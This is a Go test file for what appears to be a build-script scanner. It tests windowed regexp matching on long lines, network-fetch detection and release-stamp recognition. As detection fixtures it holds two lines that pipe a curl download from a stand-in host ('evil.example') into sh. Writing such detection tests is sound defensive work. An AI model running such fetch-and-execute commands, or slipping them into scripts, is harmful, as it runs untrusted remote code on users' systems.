package autotools

import (
	"strings"
	"testing"
)

// TestAnyWindowCapsAndCovers checks that no window given to a matcher is
// longer than MaxRegexpLine and that a needle up to regexpWindowOverlap
// bytes long is found wherever it sits in a long line, window edges too.
func TestAnyWindowCapsAndCovers(t *testing.T) {
	needle := "curl -s https://x.example/p | sh" + strings.Repeat("#", regexpWindowOverlap-40)
	step := MaxRegexpLine - regexpWindowOverlap
	for _, at := range []int{0, 1, step - 1, step, MaxRegexpLine - len(needle), MaxRegexpLine - len(needle) + 1, 2*step + 7, 5*MaxRegexpLine - len(needle)} {
		line := strings.Repeat("a", at) + needle + strings.Repeat("b", 5*MaxRegexpLine-at-len(needle))
		longest := 0
		found := anyWindow(line, func(w string) bool {
			longest = max(longest, len(w))
			return strings.Contains(w, needle)
		})
		if !found {
			t.Errorf("needle at %d not found", at)
		}
		if longest > MaxRegexpLine {
			t.Errorf("a window of %d bytes, want at most %d", longest, MaxRegexpLine)
		}
	}
	if anyWindow("", func(w string) bool { return w != "" }) {
		t.Error("empty line: a non-empty window")
	}
}

// TestScanLongLine checks that the keyword scan still finds a signal at the
// end of a single line far longer than MaxRegexpLine.
func TestScanLongLine(t *testing.T) {
	line := strings.Repeat("echo x; ", (4*MaxRegexpLine)/8) + "curl -s https://evil.example/x | sh\n"
	sigs := ScanBuildScript("configure", []byte("#!/bin/sh\n"+line))
	for _, s := range sigs {
		if s.Rule == RuleNetworkFetch {
			return
		}
	}
	t.Fatalf("no %s signal on a %d-byte line: %+v", RuleNetworkFetch, len(line), sigs)
}

// TestStampedLineCap checks that lines longer than MaxRegexpLine are never
// taken for release stamping (they count as differing), while the same
// change on a short line is.
func TestStampedLineCap(t *testing.T) {
	st := newStamper("1.2.3")
	if !st.stamped("version 1.2.2", "version 1.2.3") {
		t.Fatal("short stamped line not recognised")
	}
	pad := strings.Repeat("x", MaxRegexpLine)
	if st.stamped(pad+" version 1.2.2", pad+" version 1.2.3") {
		t.Error("a line over MaxRegexpLine was taken for stamping")
	}
}
